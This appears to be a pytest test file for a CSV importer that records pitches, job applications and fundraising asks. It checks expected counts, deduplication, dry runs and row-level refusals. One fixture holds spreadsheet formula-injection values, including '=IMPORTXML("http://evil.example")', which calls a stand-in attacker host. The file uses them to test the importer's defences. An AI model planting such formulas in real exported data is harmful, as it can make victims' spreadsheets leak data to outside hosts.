"""Each corpus file imports with exactly the counts expected, or is refused row by row."""

import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from nomentum.accounts.models import User
from nomentum.asks.importing import MAX_ROWS, TOO_MANY_ROWS, ImportRefused, import_asks
from nomentum.asks.models import Ask, Category
from tests.conftest import make_ask, stored

CORPUS = Path(__file__).parent / "corpus"
D = dt.date


@dataclass
class Imports:
    created: int
    skipped: int = 0
    # (title, recipient) -> fields to compare; "category" by name.
    asks: dict[tuple[str, str], dict[str, Any]] = field(default_factory=dict)
    new_categories: list[str] = field(default_factory=list)
    before: Callable[[User], object] | None = None


@dataclass
class Refused:
    errors: list[tuple[int, str]] = field(default_factory=list)  # (row, field)
    detail: str = ""  # the whole file refused


def existing_long_table(user: User) -> None:
    make_ask(user, title="The Long Table", recipient="Granta", asked_on=D(2025, 11, 3))


EXPECTED: dict[str, Imports | Refused] = {
    "writer_submissions.csv": Imports(
        12,
        asks={
            ("The Night Train", "The Paris Review"): {
                "asked_on": D(2025, 1, 6),
                "outcome": "no",
                "feedback": "form",
                "decided_on": D(2025, 3, 14),
                "category": "Fiction",
            },
            ("The Night Train", "Granta"): {
                "outcome": "no",
                "feedback": "personal",
                "notes": "Editor liked the ending, asked to see more",
            },
            # A no without its date: dated the day of the ask.
            ("The Night Train", "One Story"): {
                "outcome": "no",
                "feedback": "",
                "asked_on": D(2025, 5, 3),
                "decided_on": D(2025, 5, 3),
            },
            ("Salt", "Poetry"): {
                "outcome": "yes",
                "amount": Decimal("50.00"),
                "decided_on": D(2025, 2, 28),
                "category": "Poetry",
            },
            ("Field Notes", "Ploughshares"): {"outcome": "pending", "decided_on": None},
            ("Field Notes", "Kenyon Review"): {"outcome": "no_response"},
            ("What the River Keeps", "Longreads"): {
                "outcome": "yes",
                "amount": Decimal("1200.00"),
                "category": "Essay",
            },
            ("Ghost Lake", "Tin House"): {"notes": '"Close, but not quite for us"'},
        },
        new_categories=["Essay", "Fiction", "Poetry"],
    ),
    "job_applications.csv": Imports(
        8,
        asks={
            ("Senior Data Analyst", "Acme Corp"): {
                "asked_on": D(2025, 9, 2),
                "outcome": "no",
                "amount": Decimal("95000.00"),
                "category": None,
            },
            ("Analytics Engineer", "Globex"): {
                "outcome": "pending",
                "notes": "Second round on 9/20",
            },
            ("Data Scientist", "Initech"): {"outcome": "no_response", "amount": Decimal("120000")},
            ("BI Developer", "Umbrella Health"): {"outcome": "yes", "decided_on": D(2025, 9, 10)},
            ("Data Analyst II", "Hooli"): {"outcome": "withdrawn"},
            ("Analyst", "Stark Industries"): {"outcome": "pending"},
        },
    ),
    "fundraising_log.csv": Imports(
        5,
        asks={
            ("Capital campaign lead gift", "Smith, Jane"): {
                "outcome": "no",
                "amount": Decimal("25000.00"),
                "category": "Capital Campaign",
                "decided_on": D(2025, 3, 20),
                "notes": "Met at the spring gala, very warm.\r\nAsked us to come back next year.",
            },
            ("Youth program grant", "Riverside Foundation"): {
                "outcome": "yes",
                "amount": Decimal("10000.00"),
                "category": "Grants",
            },
            ("Employee match", "Acme Corp. (matching gifts)"): {
                "outcome": "no_response",
                "notes": 'Sent three emails; "out of office" each time',
            },
        },
        new_categories=["Annual Fund", "Capital Campaign", "Corporate", "Grants", "Scholarships"],
    ),
    "semicolon_european.csv": Imports(
        5,
        asks={
            ("Herbstgedicht", "Zeitschrift für Lyrik"): {
                "asked_on": D(2025, 11, 3),
                "decided_on": D(2025, 11, 24),
                "outcome": "no",
                "feedback": "form",
            },
            ("Über das Warten", "Akzente"): {"outcome": "yes", "amount": Decimal("1500.00")},
            ("Café am Rand", "manuskripte"): {
                "outcome": "withdrawn",
                "decided_on": D(2025, 11, 14),
            },
        },
    ),
    "mixed_dates.csv": Imports(
        6,
        asks={
            ("Picture book: Moth and Lamp", "Candlewick"): {
                "asked_on": D(2025, 11, 3),
                "decided_on": D(2025, 11, 24),
                "outcome": "no",
            },
            ("Middle grade: The Salt Road", "Scholastic"): {
                "outcome": "no",
                "feedback": "personal",
            },
            ("Middle grade: The Salt Road", "Knopf"): {
                "asked_on": D(2025, 10, 15),
                "decided_on": D(2025, 12, 10),
                "outcome": "no_response",
            },
            # 11/03/2025 is the same day as 2025-11-03.
            ("Essay collection", "Graywolf"): {"asked_on": D(2025, 11, 3), "outcome": "pending"},
            ("Essay collection", "Milkweed"): {"outcome": "yes"},
        },
    ),
    "blank_lines.csv": Imports(
        3,
        asks={
            ("Pitch: night trains", "The Atlantic"): {"outcome": "no"},
            ("Pitch: rail ferries", "Wired"): {"outcome": "yes", "asked_on": D(2025, 11, 5)},
        },
    ),
    "quoted_fields.csv": Imports(
        3,
        asks={
            ('The "Night Train" essay', "Editor, The Atlantic"): {
                "notes": 'Short, polite; "not for us."',
                "feedback": "form",
                "category": "Pitch",
            },
            ("Ten ways to say no, politely", "Slate"): {
                "notes": "Line one\nLine two, with a comma\nLine three"
            },
            ("Trains, ferries, and buses", "Wired, Features desk"): {"outcome": "yes"},
        },
    ),
    "windows_line_ends.csv": Imports(
        6,
        asks={
            ("Pitch: canal boats", "The Guardian"): {
                "asked_on": D(2025, 10, 23),
                "decided_on": D(2025, 10, 30),
                "outcome": "no",
            },
            # Day first throughout, as 23/10/2025 shows: not February 11.
            ("Pitch: night buses", "The Times"): {
                "asked_on": D(2025, 11, 2),
                "decided_on": D(2025, 11, 13),
                "feedback": "personal",
            },
            ("Pitch: sea swimming", "The Observer"): {"outcome": "no_response"},
            ("Pitch: fell running", "The Telegraph"): {"outcome": "yes"},
            ("Pitch: pier theatres", "The Independent"): {"outcome": "withdrawn"},
        },
    ),
    "nomentum_export.csv": Imports(
        7,
        asks={
            ("=SUM(1+1)", "@editor"): {
                "notes": "-- first draft, sent in a hurry",
                "feedback": "form",
                "category": "Pitch",
            },
            ("+1 for night trains", "Wired"): {
                "feedback": "invited_back",
                "follow_up_on": D(2026, 3, 1),
            },
            ("'Tis the season: winter rail", "Condé Nast Traveler"): {
                "amount": Decimal("1200.00"),
                "category": "Travel",
                "notes": "Fee: 1,200; 1,500 words",
            },
            ("Grant: Regional Arts Fund", "Arts Council"): {
                "private": True,
                "outcome": "pending",
                "notes": "\tIndented, with a tab\nand a second line",
                "category": "Grant",
            },
            ("-5 reasons to take the train", '=IMPORTXML("http://evil.example")'): {
                "feedback": "personal"
            },
            ('Residency, "Sea & Sky"', "Hawthornden"): {"outcome": "withdrawn"},
        },
        new_categories=["Residency", "Travel"],
    ),
    "duplicates.csv": Imports(2, skipped=3, before=existing_long_table),
    "missing_values.csv": Refused([(4, "title"), (5, "asked_on")]),
    "unknown_outcomes.csv": Refused([(2, "outcome"), (4, "outcome")]),
    "rule_breaking.csv": Refused(
        [
            (2, "decided_on"),
            (3, "amount"),
            (4, "feedback"),
            (5, "asked_on"),
            (6, "private"),
            (7, "amount"),
            (8, "title"),
            (9, ""),
            (10, "asked_on"),
        ]
    ),
    "not_utf8.csv": Refused(detail="The file is not UTF-8 text (line 3"),
}

IMPORTED = sorted(name for name, case in EXPECTED.items() if isinstance(case, Imports))
REFUSED = sorted(name for name, case in EXPECTED.items() if isinstance(case, Refused))


def read(name: str) -> bytes:
    return (CORPUS / name).read_bytes()


def test_every_file_of_the_corpus_has_its_expectation():
    assert {path.name for path in CORPUS.glob("*.csv")} == set(EXPECTED)
    assert len(EXPECTED) >= 12


@pytest.mark.parametrize("name", IMPORTED)
def test_it_imports_the_file_with_the_expected_counts(name, owner):
    case = EXPECTED[name]
    assert isinstance(case, Imports)
    if case.before:
        case.before(owner)
    categories_before = set(Category.objects.filter(user=owner).values_list("name", flat=True))
    asks_before = Ask.objects.filter(user=owner).count()

    report = import_asks(owner, read(name))

    assert report.errors == []
    assert (report.created, report.skipped) == (case.created, case.skipped)
    assert Ask.objects.filter(user=owner).count() == asks_before + case.created
    for (title, recipient), fields in case.asks.items():
        ask = Ask.objects.select_related("category").get(
            user=owner, title=title, recipient=recipient
        )
        for field_name, expected in fields.items():
            actual = getattr(ask, field_name)
            if field_name == "category":
                actual = actual.name if actual else None
            assert actual == expected, (title, field_name)
    categories = set(Category.objects.filter(user=owner).values_list("name", flat=True))
    assert sorted(categories - categories_before) == case.new_categories


@pytest.mark.parametrize("name", IMPORTED)
def test_importing_the_same_file_again_creates_nothing(name, owner):
    first = import_asks(owner, read(name))
    before = stored(Ask, Category)

    again = import_asks(owner, read(name))

    assert (again.created, again.skipped) == (0, first.created + first.skipped)
    assert stored(Ask, Category) == before


@pytest.mark.parametrize("name", IMPORTED)
def test_a_dry_run_says_what_the_import_would_do_and_writes_nothing(name, owner):
    case = EXPECTED[name]
    assert isinstance(case, Imports)
    if case.before:
        case.before(owner)
    before = stored(Ask, Category)

    report = import_asks(owner, read(name), dry_run=True)

    assert (report.created, report.skipped, report.errors) == (case.created, case.skipped, [])
    assert report.new_categories == case.new_categories
    assert stored(Ask, Category) == before


@pytest.mark.parametrize("name", REFUSED)
@pytest.mark.parametrize("dry_run", [False, True])
def test_it_refuses_the_file_row_by_row_and_writes_nothing(name, dry_run, owner):
    case = EXPECTED[name]
    assert isinstance(case, Refused)
    make_ask(owner, title="Already here")
    before = stored(Ask, Category)

    if case.detail:
        with pytest.raises(ImportRefused) as refused:
            import_asks(owner, read(name), dry_run=dry_run)
        assert refused.value.message.startswith(case.detail)
    else:
        report = import_asks(owner, read(name), dry_run=dry_run)
        assert [(error["row"], error["field"]) for error in report.errors] == case.errors
        assert all(error["message"].endswith((".", "?")) for error in report.errors)
        assert report.created == 0

    assert stored(Ask, Category) == before


def test_the_rows_without_problems_are_counted_but_not_written(owner):
    report = import_asks(owner, read("rule_breaking.csv"))

    assert (report.rows, report.valid, report.created) == (10, 1, 0)


def test_it_refuses_the_sixty_thousand_row_file_and_writes_nothing(owner, sixty_thousand_rows):
    data = sixty_thousand_rows.read_bytes()
    assert data.count(b"\r\n") == 60_001
    before = stored(Ask, Category)

    with pytest.raises(ImportRefused) as refused:
        import_asks(owner, data)

    assert refused.value.message == TOO_MANY_ROWS
    assert f"{MAX_ROWS:,}" in refused.value.message
    assert stored(Ask, Category) == before
